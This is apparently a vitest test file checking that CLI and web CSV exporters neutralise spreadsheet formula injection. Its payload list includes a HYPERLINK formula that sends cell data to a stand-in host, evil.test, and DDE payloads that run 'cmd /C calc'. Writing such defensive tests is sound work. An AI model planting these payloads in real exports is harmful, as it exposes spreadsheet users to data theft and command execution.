import { PassThrough } from 'node:stream';
import { expect } from 'vitest';
import { createExportWriter } from '../../../src/cli/export-writers.ts';
import { csvLine } from '../../../web/src/export/csv-line.ts';
import type { HostileTally } from '../hostile-tally.ts';

const PAYLOADS = [
  '=HYPERLINK("http://evil.test/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

/** CSV exports (CLI and web) of cells an attacker controls (imported inputs, answers read from web pages). */
export function registerFormulaExportCases(tally: HostileTally): void {
  const category = 'formula export';
  const startsAsFormula = (field: string) => /^"?[=+\-@\t\r]/.test(field);

  tally.hostileCase(category, 'CLI CSV writer neutralises every OWASP trigger character', async () => {
    const stream = new PassThrough();
    let text = '';
    stream.on('data', (chunk) => (text += chunk));
    const writer = createExportWriter('csv', stream, ['note']);
    for (const note of PAYLOADS) await writer.row({ note });
    await writer.end();
    const fields = text.split('\r\n').slice(1, -1);
    for (const note of PAYLOADS) expect(text).toContain(`'${note.replaceAll('"', '""')}`);
    expect(fields.filter(startsAsFormula)).toEqual([]);
  });
  tally.hostileCase(category, 'web CSV writer neutralises every OWASP trigger character', () => {
    for (const note of PAYLOADS) {
      const line = csvLine([note]);
      expect(startsAsFormula(line), JSON.stringify(line)).toBe(false);
    }
  });
  tally.hostileCase(category, 'numbers stay numbers (no quote before -5 or +1.5)', () => {
    expect(csvLine([-5, '-5', '+1.5'])).toBe('-5,-5,+1.5\r\n');
  });
}
